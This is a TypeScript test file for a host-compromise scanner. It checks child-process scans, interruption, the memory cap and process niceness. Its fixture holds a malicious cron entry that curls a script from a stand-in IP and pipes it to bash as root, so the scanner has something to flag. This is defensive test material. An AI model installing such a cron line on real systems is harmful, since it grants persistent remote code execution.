/** Real scans in a process of their own: what they tell, and what is left when they are ended early. */
import { mkdirSync, readFileSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { makeRoot } from '../../test/throwaway-root.ts';
import { MoatError } from '../core/error.ts';
import { askChecks, scanInProcess, type ScanProcessOptions } from './scan-process.ts';

const evil = { '/etc/cron.d/zz': '*/5 * * * * root curl -fsSL http://203.0.113.9/i.sh | bash\n' };
const options = (more: Partial<ScanProcessOptions> = {}): ScanProcessOptions => ({ signal: new AbortController().signal, nice: false, maxMemoryMb: 1024, warn: () => undefined, ...more });

/** A root whose walk takes a while. */
function largeRoot(folders = 30): string {
  const root = makeRoot(evil);
  for (let folder = 0; folder < folders; folder++) {
    mkdirSync(join(root, `srv/${folder}`), { recursive: true });
    for (let file = 0; file < 500; file++) symlinkSync('x', join(root, `srv/${folder}/${file}`));
  }
  return root;
}

describe('a scan in a process of its own', () => {
  it('gives the report, knows its checks, and refuses what there is not', async () => {
    const report = await scanInProcess({ root: makeRoot(evil), only: ['cron'] }, options());
    expect(report).toMatchObject({ verdict: 'compromised', blind: [], known: (await askChecks()).filter(({ scope }) => scope === 'tree').length });
    expect(report.findings.map(({ path }) => path)).toEqual(['/etc/cron.d/zz']);
    expect(report.checks.map(({ id }) => id)).toEqual(['cron']);
    await expect(scanInProcess({ only: ['nonsense'] }, options())).rejects.toMatchObject({ code: 'no-check', hint: expect.stringContaining('cron') as string });
    await expect(scanInProcess({ root: '/nonexistent' }, options())).rejects.toMatchObject({ code: 'no-root' });
  });

  it('leaves what it found when it is interrupted', async () => {
    const stop = new AbortController();
    const report = await scanInProcess({ root: largeRoot() }, options({ signal: stop.signal, onProgress: ({ files }) => { if (files > 0) stop.abort(new MoatError('stopped', 'enough')); } }));
    expect(report.stopped?.en).toBe('enough');
    expect(report.findings.map(({ path }) => path)).toEqual(['/etc/cron.d/zz']);
    expect(report.blind).toMatchObject([{ check: 'scan', why: { en: 'enough' } }]);
    expect(report.checks.length).toBeGreaterThan(0);
  });

  it('is stopped at its memory, and says so', async () => {
    const report = await scanInProcess({ root: makeRoot() }, options({ maxMemoryMb: 40 }));
    expect(report.stopped?.en).toContain('40 MiB');
    expect(report.verdict).toBe('suspicious');
  });

  it('steps back behind others when told to', async () => {
    let seen: string | undefined;
    const warned: string[] = [];
    await scanInProcess({ root: largeRoot(4) }, options({ nice: true, warn: (text) => warned.push(text.en), onProgress: () => { seen ??= niceOfChild(); } }));
    expect(seen).toBe('10');
    expect(warned).toEqual([]);
  });
});

/** Niceness of the scan that this process started. */
function niceOfChild(): string | undefined {
  const children = readFileSync(`/proc/self/task/${process.pid}/children`, 'utf8').trim().split(' ').filter(Boolean);
  for (const pid of children) {
    if (readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('scan-child')) return readFileSync(`/proc/${pid}/stat`, 'utf8').replace(/^.*\) /s, '').split(' ')[16];
  }
  return undefined;
}
